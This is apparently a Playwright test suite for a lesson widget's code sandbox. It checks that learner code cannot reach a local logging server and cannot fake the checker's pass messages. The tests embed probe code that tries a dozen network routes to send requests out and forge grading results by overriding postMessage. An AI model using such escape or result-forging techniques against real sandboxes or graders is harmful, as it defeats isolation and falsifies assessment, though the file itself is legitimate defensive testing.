// The exercise sandbox, attacked the way a hostile shared link would:
// learner code that tries every route to the network against a logging
// server on 127.0.0.1 (zero requests may arrive), learner code that fakes
// the checker's messages (never "Well done"), and the sandbox working on the
// lesson page, in the iframe embed and in a cross-origin element under the
// strict policy docs/embedding.md gives. Learner code that tries to make the
// reply huge: tests/e2e/sandbox-reply.spec.ts; a sandbox that runs out of
// memory: tests/e2e/sandbox-crash.spec.ts.
import type { Page } from '@playwright/test';

import { test } from './shared-page.js';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import { readFileSync, statSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { extname, join, normalize } from 'node:path';

import { STRICT_CSP, serveHtml, siteDir, waitForStatus } from './embed-support.js';
import { expect, openLesson, watchErrors } from './support.js';
import { SOLUTION, exercisesView as view, runAndWait, setCode } from './exercises-support.js';

interface LogServer {
  origin: string;
  /** Every request that reached the server under /leak/ (method and path). */
  leaks: string[];
  /** Requests under /control/ (the test's own, see afterLateRequests); never leaks. */
  controls: string[];
  close(): Promise<void>;
}

const types: Record<string, string> = {
  '.html': 'text/html; charset=utf-8',
  '.js': 'text/javascript',
  '.css': 'text/css',
  '.wasm': 'application/wasm',
  '.svg': 'image/svg+xml',
  '.ico': 'image/x-icon',
  '.png': 'image/png',
};

/**
 * A logging HTTP server on 127.0.0.1 (a port of its own, so another origin
 * than the site). Requests under /leak/ are logged, WebSocket upgrades too.
 * With `serveSite`, it also serves the built site, with the sandbox frame's
 * Content-Security-Policy removed when `withoutSandboxPolicy` is set and the
 * sandbox page sent as text/plain when `sandboxAsText` is.
 */
async function startLogServer(
  options: { serveSite?: boolean; withoutSandboxPolicy?: boolean; sandboxAsText?: boolean } = {},
): Promise<LogServer> {
  const leaks: string[] = [];
  const controls: string[] = [];
  const root = siteDir();
  const server = createServer((request: IncomingMessage, response: ServerResponse) => {
    const path = new URL(request.url ?? '/', 'http://x').pathname;
    if (path.startsWith('/control/')) {
      controls.push(path);
      response.writeHead(200, { 'content-type': 'text/plain' }).end();
      return;
    }
    if (path.startsWith('/leak/') || !options.serveSite) {
      leaks.push(`${request.method} ${path}`);
      response.writeHead(200, { 'content-type': 'text/javascript' });
      response.end('export default 1;');
      return;
    }
    const file = normalize(join(root, path === '/' ? 'index.html' : path));
    if (!file.startsWith(root) || !statSync(file, { throwIfNoEntry: false })?.isFile()) {
      response.writeHead(404).end();
      return;
    }
    let body: Buffer | string = readFileSync(file);
    if (options.withoutSandboxPolicy && /assets\/sandbox-[^/]*\.html$/.test(path)) {
      body = body
        .toString('utf8')
        .replace(/<meta\s+http-equiv="Content-Security-Policy"[^>]*>/, '');
    }
    // As jsDelivr and unpkg serve .html files: as text, never to be sniffed as HTML.
    const asText = options.sandboxAsText && /assets\/sandbox-[^/]*\.html$/.test(path);
    response.writeHead(200, {
      'content-type': asText
        ? 'text/plain; charset=utf-8'
        : (types[extname(file)] ?? 'application/octet-stream'),
      ...(asText ? { 'x-content-type-options': 'nosniff' } : {}),
    });
    response.end(body);
  });
  server.on('upgrade', (request: IncomingMessage, socket) => {
    leaks.push(`UPGRADE ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    origin: `http://127.0.0.1:${port}`,
    leaks,
    controls,
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

/** Learner code whose first line is a static import from `origin`. */
function staticImport(origin: string): string {
  return `import x from '${origin}/leak/static.js';\n${SOLUTION}`;
}

/**
 * Learner code that tries every other route to `origin` at the top level
 * (each attempt's error swallowed), then defines a correct solution, so a
 * passing run proves the attempts ran.
 */
function everyRoute(origin: string): string {
  const leak = `${origin}/leak`;
  const nested = [
    `fetch('${leak}/nested-fetch')`,
    `import('${leak}/nested-import.js')`,
    `new FontFace('n', 'url(${leak}/nested-font.woff2)').load()`,
    `importScripts('${leak}/nested-importScripts.js')`,
  ]
    .map((line) => `try { ${line}; } catch {}`)
    .join('\n');
  return `const attempts = [];
function attempt(f) { attempts.push((async () => { try { await f(); } catch {} })()); }
attempt(() => import('${leak}/dynamic-import.js'));
attempt(() => fetch('${leak}/fetch'));
attempt(() => { const x = new XMLHttpRequest(); x.open('GET', '${leak}/xhr'); x.send(); });
attempt(() => importScripts('${leak}/importScripts.js'));
attempt(() => new WebSocket('${origin.replace('http', 'ws')}/leak/websocket'));
attempt(() => new EventSource('${leak}/eventsource'));
attempt(() => navigator.sendBeacon('${leak}/beacon', 'x'));
attempt(() => new FontFace('f', 'url(${leak}/font.woff2)').load());
attempt(() => self.fonts.load('12px f'));
attempt(() => new Worker('${leak}/worker.js'));
attempt(() => new Worker(URL.createObjectURL(new Blob([${JSON.stringify(nested)}]))));
attempt(() => createImageBitmap(new Blob(['<svg xmlns="http://www.w3.org/2000/svg"><image href="${leak}/image.png"/></svg>'], { type: 'image/svg+xml' })));
await Promise.race([Promise.allSettled(attempts), new Promise((r) => setTimeout(r, 500))]);
${SOLUTION}`;
}

const run = (page: Page) => runAndWait(page);

/**
 * Sends, from the page itself, the two kinds of request that arrive last (a
 * beacon, and a fetch from a new worker) and waits until the server has both:
 * a request the learner code started earlier, in the run that has ended, has
 * reached the server by then. The condition instead of a pause for late
 * requests.
 */
async function afterLateRequests(page: Page, server: LogServer): Promise<void> {
  const before = server.controls.length;
  await page.evaluate((origin) => {
    navigator.sendBeacon(`${origin}/control/beacon`, 'x');
    const code = `fetch('${origin}/control/worker', { mode: 'no-cors' });`;
    new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  }, server.origin);
  await expect
    .poll(() => server.controls.slice(before).sort())
    .toEqual(['/control/beacon', '/control/worker']);
}

/** Runs the static-import code, then the every-route code (which must pass). */
async function tryEveryRoute(page: Page, server: LogServer): Promise<void> {
  await setCode(page, staticImport(server.origin));
  await run(page);
  await expect(view(page).locator('.result')).not.toContainText('Well done');
  await setCode(page, everyRoute(server.origin));
  await run(page);
  await expect(view(page).locator('.result')).toContainText('shapes match the engine');
  // Late requests (workers, beacons) have arrived once the page's own have.
  await afterLateRequests(page, server);
}

test.describe('no request leaves the sandbox', () => {
  let server: LogServer;
  test.beforeEach(async () => {
    server = await startLogServer();
  });
  test.afterEach(async () => {
    await server.close();
  });

  test('no route in learner code reaches a server on 127.0.0.1', async ({ page }) => {
    await openLesson(page, 'view=exercises');
    await tryEveryRoute(page, server);
    expect(server.leaks).toEqual([]);
  });

  test('a static import gets a clear message instead of a request', async ({ page }) => {
    await openLesson(page, 'view=exercises');
    await setCode(page, staticImport(server.origin));
    await run(page);
    await expect(view(page).locator('.result')).toContainText('network is unavailable');
    expect(server.leaks).toEqual([]);
  });
});

test('without the sandbox frame’s policy the same code does reach the server', async ({ page }) => {
  // The control for the test above: the site served by the logging server
  // itself, with the Content-Security-Policy removed from the sandbox frame.
  const server = await startLogServer({ serveSite: true, withoutSandboxPolicy: true });
  try {
    await page.goto(`${server.origin}/?view=exercises`);
    await waitForStatus(page, 'positional-encoding-widget', 'ready');
    await tryEveryRoute(page, server);
    expect(server.leaks).toContain('GET /leak/static.js');
    expect(server.leaks).toContain('GET /leak/dynamic-import.js');
  } finally {
    await server.close();
  }
});

test.describe('a sandbox page served as text/plain (as npm CDNs do) runs inline', () => {
  test('the code runs and no route in it reaches the server', async ({ page }) => {
    const server = await startLogServer({ serveSite: true, sandboxAsText: true });
    try {
      // Each sandbox frame attached, and every navigation of one: a srcdoc
      // frame's first commit may come before Playwright reports it (seen
      // under load), so the frames are counted when attached, and any
      // navigation to a URL (the text/plain page) is still recorded.
      let attached = 0;
      const frames: string[] = [];
      page.on('frameattached', () => {
        attached += 1;
      });
      page.on('framenavigated', (frame) => {
        if (frame !== page.mainFrame()) frames.push(frame.url());
      });
      await page.goto(`${server.origin}/?view=exercises`);
      await waitForStatus(page, 'positional-encoding-widget', 'ready');
      await tryEveryRoute(page, server);
      expect(server.leaks).toEqual([]);
      // Every sandbox frame got the document inline, none navigated to the text/plain URL.
      expect(attached).toBeGreaterThan(0);
      expect(frames.filter((url) => url !== 'about:srcdoc')).toEqual([]);
    } finally {
      await server.close();
    }
  });

  test('without the page’s policy the same code does reach the server', async ({ page }) => {
    // The control: the inline document's own policy is what stops the requests.
    const server = await startLogServer({
      serveSite: true,
      sandboxAsText: true,
      withoutSandboxPolicy: true,
    });
    try {
      await page.goto(`${server.origin}/?view=exercises`);
      await waitForStatus(page, 'positional-encoding-widget', 'ready');
      await tryEveryRoute(page, server);
      expect(server.leaks).toContain('GET /leak/static.js');
    } finally {
      await server.close();
    }
  });
});

test.describe('the checker decides, never the learner’s code', () => {
  test.beforeEach(async ({ page }) => {
    await openLesson(page, 'view=exercises');
    await expect(view(page).locator('.cm-content')).toBeVisible();
  });

  test('a fake "done" with no outcomes and no function is a failed run', async ({ page }) => {
    await setCode(page, `self.postMessage({ kind: 'done', outcomes: [] });`);
    await run(page);
    await expect(view(page).locator('.result')).toContainText('No function named');
    await expect(view(page).locator('.result')).not.toContainText('Well done');
  });

  test('a fake outcome of the code’s choosing is ignored', async ({ page }) => {
    await setCode(
      page,
      `self.postMessage({ kind: 'done', outcomes: [{ seqLen: 1, dModel: 2, data: new Float64Array([0, 1]) }] });
self.postMessage({ kind: 'outputs', outputs: [{ data: new Float64Array([0, 1]) }] });
function positionalEncoding(n, d) { return [[0, 1]]; }`,
    );
    await run(page);
    await expect(view(page).locator('.result')).toContainText('Wrong shape');
    await expect(view(page).locator('.result')).toContainText('Not yet: 5 of 5 shapes differ');
  });

  test('a fake "done" with outcomes null is ignored, with no page error', async ({ page }) => {
    const errors = watchErrors(page);
    await setCode(
      page,
      `self.postMessage({ kind: 'done', outcomes: null });
function positionalEncoding(n, d) { return []; }`,
    );
    await run(page);
    await expect(view(page).locator('.result')).toContainText('Wrong shape');
    await expect(view(page).locator('.result')).not.toContainText('Time limit');
    expect(errors).toEqual([]);
  });

  test('a fake message followed by a loop ends at the time limit', async ({ page }) => {
    await setCode(
      page,
      `self.postMessage({ kind: 'done', outcomes: [] });
function positionalEncoding(n, d) { while (true) {} }`,
    );
    await run(page);
    await expect(view(page).locator('.result')).toContainText('Time limit');
  });

  test('replacing MessagePort.prototype.postMessage does not change the outputs', async ({
    page,
  }) => {
    await setCode(
      page,
      `const post = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function () { return post.call(this, { kind: 'outputs', outputs: [] }); };
function positionalEncoding(n, d) { return [[0, 1]]; }`,
    );
    await run(page);
    await expect(view(page).locator('.result')).toContainText('Wrong shape');
    await expect(view(page).locator('.result')).not.toContainText('Well done');
  });
});

test.describe('the sandbox runs under the strict host policy', () => {
  test('on the lesson page', async ({ page }) => {
    const errors = watchErrors(page);
    await page.route('**/*', async (route) => {
      if (route.request().resourceType() !== 'document' || route.request().frame().parentFrame())
        return route.fallback();
      const response = await route.fetch();
      await route.fulfill({
        response,
        headers: { ...response.headers(), 'content-security-policy': STRICT_CSP },
      });
    });
    await openLesson(page, 'view=exercises');
    // The solution goes in through the page's own button: Playwright's fill()
    // edits the text in a way that itself trips style-src (typing does not).
    await view(page).getByRole('button', { name: 'Show a solution' }).click();
    await view(page).getByRole('button', { name: 'Yes, show the solution' }).click();
    await view(page).getByRole('button', { name: 'Copy into the editor' }).click();
    await run(page);
    await expect(view(page).locator('.result')).toContainText('shapes match the engine');
    expect(errors).toEqual([]);
  });

  test('in the iframe embed', async ({ page }) => {
    await page.route('**/embed.html*', async (route) => {
      const response = await route.fetch();
      await route.fulfill({
        response,
        headers: { ...response.headers(), 'content-security-policy': STRICT_CSP },
      });
    });
    await serveHtml(
      page,
      '/__sandbox-test/iframe-host.html',
      `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Iframe host</title></head><body>
      <iframe id="f" src="/embed.html?view=exercises" title="Positional encoding" width="1000" height="900"></iframe>
      </body></html>`,
      STRICT_CSP,
    );
    await page.goto('/__sandbox-test/iframe-host.html');
    const frame = page.frameLocator('#f');
    const inner = frame.locator('pe-exercises-view');
    await inner.locator('.cm-content').fill(SOLUTION);
    await inner.getByRole('button', { name: 'Run', exact: true }).click();
    await expect(inner.locator('.result')).toContainText('shapes match the engine', {
      timeout: 15_000,
    });
  });

  test('in a one-line element from another origin', async ({ page }) => {
    // The element comes from localhost, the host page from 127.0.0.1; the
    // host's policy names the widget's origin as embedding.md says.
    const base = new URL(test.info().project.use.baseURL!);
    const other = `http://localhost:${base.port}`;
    const policy = `default-src 'self' ${other}; script-src 'self' ${other} 'wasm-unsafe-eval'; style-src 'self'; object-src 'none'`;
    await page.route(`${other}/**`, async (route) =>
      route.fulfill({ response: await route.fetch() }),
    );
    await serveHtml(
      page,
      '/__sandbox-test/element-host.html',
      `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Host</title>
      <script type="module" src="${other}/positional-encoding-widget.js"></script></head>
      <body><positional-encoding-widget view="exercises"></positional-encoding-widget></body></html>`,
      policy,
    );
    const errors = watchErrors(page);
    await page.goto('/__sandbox-test/element-host.html');
    await waitForStatus(page, 'positional-encoding-widget', 'ready');
    await view(page).getByRole('button', { name: 'Show a solution' }).click();
    await view(page).getByRole('button', { name: 'Yes, show the solution' }).click();
    await view(page).getByRole('button', { name: 'Copy into the editor' }).click();
    await run(page);
    await expect(view(page).locator('.result')).toContainText('shapes match the engine');
    expect(errors).toEqual([]);
  });
});
